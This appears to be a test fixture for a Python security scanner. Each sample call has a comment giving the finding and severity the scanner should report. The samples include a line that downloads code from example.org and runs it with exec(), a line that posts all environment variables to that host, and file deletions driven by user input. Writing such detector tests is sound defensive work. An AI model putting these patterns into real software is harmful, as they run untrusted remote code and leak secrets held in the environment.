import argparse
import base64
import os
import subprocess
import sys
from urllib.request import urlopen

import requests

subprocess.run(["ls"])  # expect: subprocess-call:medium
subprocess.run(["ls", input()])  # expect: subprocess-call:high
subprocess.run(["ls"] + sys.argv[1:])  # expect: subprocess-call:high
folder = os.environ["FOLDER"]
command = "ls " + folder
subprocess.run(command.split())  # expect: subprocess-call:high
subprocess.run(["ls", os.getenv("FOLDER")])  # expect: subprocess-call:high
exec(requests.get("https://example.org", timeout=5).text)  # expect: exec-call:high, opaque-code, network-request
with urlopen("https://example.org") as reply:  # expect: network-request
    text = reply.read()
exec(text)  # expect: exec-call:high, opaque-code
exec(base64.b64decode("eCA9IDE="))  # expect: exec-call:high
exec("x = 1")  # expect: exec-call:medium
parser = argparse.ArgumentParser()
options = parser.parse_args()
os.remove(options.name)  # expect: file-delete:high
os.remove("data.csv")  # expect: file-delete:medium
for line in sys.stdin:
    os.remove(line)  # expect: file-delete:high


def run(name, times=1):
    os.remove(name)  # expect: file-delete:high


run(input())


def clean(name):
    os.remove(name)  # expect: file-delete:medium


clean("data.csv")
requests.post("https://example.org", json=dict(os.environ), timeout=5)  # expect: network-request:high, environment-dump
requests.post("https://example.org", json={}, timeout=5)  # expect: network-request:medium
